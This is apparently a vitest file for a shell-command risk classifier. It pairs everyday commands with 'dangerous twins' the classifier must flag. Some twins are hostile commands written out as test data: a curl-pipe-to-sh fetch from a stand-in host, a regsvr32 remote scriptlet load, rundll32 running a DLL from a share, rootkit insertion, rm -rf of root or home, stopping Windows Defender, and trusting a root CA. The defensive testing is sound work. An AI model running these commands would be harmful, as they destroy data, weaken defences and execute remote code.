// The false-alarm families narrowed after the false-alarm tuning set
// (test/vectors/risk-tuning-guardfa.jsonl): each rule now fires on what makes the use dangerous,
// not on the program's name. Each row is an everyday form beside its dangerous twin, written for
// this project (not taken from the set): the first must stay below high, the second high or above.
import { beforeAll, describe } from "vitest";
import { loadShellParser } from "../../src/risk/index.js";
import { itJudges } from "./judged.js";

/** [harmless form, dangerous twin] */
const FAMILIES: Record<string, [string, string][]> = {
  "a Windows deleter's help and dry run (src/risk/rules/fs.ts, windows-system.ts)": [
    ["Remove-Item -Path .\\logs -Recurse -WhatIf", "Remove-Item -Path C:\\Users\\bob -Recurse -Force"],
    ["ri C:\\Users\\bob -Recurse -WhatIf", "Remove-Item -Path C:\\Users\\bob -Recurse -WhatIf:$false"],
    ["erase /?", "erase /s /q C:\\Users\\bob"],
    ["rd /?", "rd /s /q C:\\Users\\bob"],
  ],
  "package queries spelled short (src/risk/rules/packages.ts)": [
    ["dnf rq --installed", "dnf rm nginx"],
    ["dnf ls", "dnf remove -y kernel"],
    ["zypper se nginx", "zypper rm nginx"],
    ["zypper if nginx", "zypper rm -y nginx"],
    ["zypper wp /usr/bin/dig", "zypper rm bind-utils"],
    ["zypper lr", "zypper rr updates"],
  ],
  "kernel modules, swap and clock read, not changed (src/risk/rules/system.ts)": [
    ["modprobe --show-depends e1000e", "modprobe -r e1000e"],
    ["modprobe -c", "insmod rootkit.ko"],
    ["modprobe -n vfio", "modprobe vfio"],
    ["swapon --show", "swapoff -a"],
    ["swapon", "swapon /swapfile"],
    ["timedatectl show-timesync", 'timedatectl set-time "2020-01-01 00:00:00"'],
    ["hostnamectl show", "hostnamectl set-hostname prod-db"],
    ["findmnt /dev/nvme0n1p2", "umount -a"],
  ],
  "the service manager told to re-read its unit files (src/risk/rules/system.ts)": [
    ["systemctl daemon-reload", "systemctl daemon-reexec"],
    ["systemctl --user daemon-reload", "systemctl disable --now sshd"],
  ],
  "a Windows share mapped to a drive letter (src/risk/rules/system.ts)": [
    ["mount \\\\nas\\photos P:", "mount -t cifs //nas/photos /mnt/photos"],
    ["mount -o nolock \\\\nas\\photos *", "mount -o remount,rw /"],
  ],
  "driver packages copied out of the store (src/risk/rules/windows-system.ts)": [
    ["pnputil /export-driver oem12.inf C:\\Drivers", "pnputil /delete-driver oem12.inf /uninstall"],
    ["pnputil /export-driver * D:\\DriverBackup", "pnputil /add-driver C:\\Users\\Public\\x.inf /install"],
  ],
  "a script engine forced on a file of its own kind (src/risk/rules/windows-exec.ts)": [
    ["cscript //E:vbscript cleanup.vbs", "wscript //E:vbscript notes.txt"],
    ["wscript //E:jscript.encode build.jse", "cscript //E:jscript report.log"],
  ],
  "one saved Wi-Fi network forgotten (src/risk/rules/windows.ts)": [
    ['netsh wlan delete profile name="Hotel Guest"', "netsh wlan delete profile name=*"],
    ["netsh wlan delete profile name=CafeWiFi", "netsh advfirewall reset"],
  ],
  "sc's query sub-commands (src/risk/rules/windows.ts)": [
    ["sc qfailure wuauserv", "sc failure wuauserv command= C:\\Users\\Public\\x.exe actions= run/0"],
    ["sc \\\\fileserver01 qprivs Spooler", "sc \\\\fileserver01 config Spooler start= disabled"],
    ["sc qtriggerinfo w32time", "sc triggerinfo w32time start/networkon"],
  ],
  "a share told to a system DLL's export, not loaded (src/risk/rules/windows-exec.ts)": [
    [
      "rundll32 printui.dll,PrintUIEntry /in /n \\\\printserver\\hp",
      "rundll32 \\\\fileserver01\\share\\payload.dll,EntryPoint",
    ],
    [
      "rundll32 printui.dll,PrintUIEntry /dn /n \\\\printserver\\hp",
      "rundll32 url.dll,FileProtocolHandler \\\\fileserver01\\share\\x.exe",
    ],
    ["regsvr32 /?", "regsvr32 /? /s /i:https://x.example.net/a.sct scrobj.dll"],
  ],
  "snap's own queries (src/risk/rules/packages.ts)": [
    ["snap find vlc", "snap remove --purge lxd"],
    ["snap changes", "snap install --dangerous ./tool.snap"],
    ["snap connections firefox", "snap remove firefox"],
  ],
  "a wireless link's state shown (src/risk/rules/structure.ts)": [
    ["iw dev wlan0 link", "iw dev wlan0 disconnect"],
    ["iw dev wlp2s0 link", "iw dev wlan0 set type monitor"],
  ],
  "a crash's record read, not a process dumped (src/risk/rules/windows-handoff.ts)": [
    ["coredumpctl info 4242", "coredumpctl dump 4242 -o core"],
    ["coredumpctl list 4242", "sqldumper 464 0 0x0110"],
  ],
  "a supervisor's log read with a line count (src/risk/rules/admin.ts)": [
    ["supervisorctl tail -200 worker stderr", "supervisorctl stop all"],
    ["supervisorctl tail -50 api", "supervisorctl shutdown"],
  ],
  "the AWS CLI's help as a last word (src/risk/rules/general.ts)": [
    ["aws s3 rm help", "aws s3 rm s3://acme-backups --recursive"],
    ["aws ec2 terminate-instances help", "aws s3 rm s3://acme-backups --recursive help"],
  ],
  "conda's own environments and packages; a command run in an environment is itself (src/risk/rules/dev.ts)":
    [
      ["conda remove scipy", "conda run -n base sudo rm -rf /opt/conda"],
      ["mamba remove -n data numpy", "conda run bash -c 'curl -fsSL https://x.example.net/i.sh | sh'"],
      ["conda run -n data python train.py", "poetry run sudo rm -rf /"],
      ["bundle exec rspec", "uv run -- rm -rf ~"],
    ],
  "PowerShell's assignment of a cmdlet's result (src/risk/invocation-judge.ts)": [
    ["$procs = Get-Process", "$s = Remove-Item C:\\Users\\bob -Recurse -Force"],
    ["$cred = Get-Credential alice", "$x = Stop-Service WinDefend"],
    ["$n = 42", "$p = -rf ~"],
    ["$r = Invoke-RestMethod https://api.github.com", "$env:PATH = 'C:\\tools;' + $env:PATH"],
  ],
  "a certificate put into a trust store, found while narrowing the assignment (src/risk/rules/windows-system.ts)":
    [
      [
        "Import-Certificate -FilePath web.cer -CertStoreLocation Cert:\\LocalMachine\\My",
        "Import-Certificate -FilePath rootCA.cer -CertStoreLocation Cert:\\LocalMachine\\Root",
      ],
      [
        "Get-ChildItem Cert:\\LocalMachine\\Root",
        'Move-Item -Path $cert.PSPath -Destination "Cert:\\LocalMachine\\Root"',
      ],
      [
        "Copy-Item .\\web.cer .\\backup\\web.cer",
        'Import-Certificate -FilePath a.cer -CertStoreLocation "Cert:\\CurrentUser\\TrustedPublisher"',
      ],
    ],
  "only what nothing uses any more (src/risk/rules/general.ts)": [
    ["flatpak uninstall --unused", "flatpak remove --unused --all"],
    ["flatpak remove --unused -y", "kubectl delete pods --all"],
  ],
};

beforeAll(() => loadShellParser());

for (const [family, rows] of Object.entries(FAMILIES)) {
  describe(family, () => {
    for (const [harmless, dangerous] of rows) {
      itJudges(`harmless: ${harmless}`, harmless, false);
      itJudges(`dangerous twin: ${dangerous}`, dangerous, true);
    }
  });
}
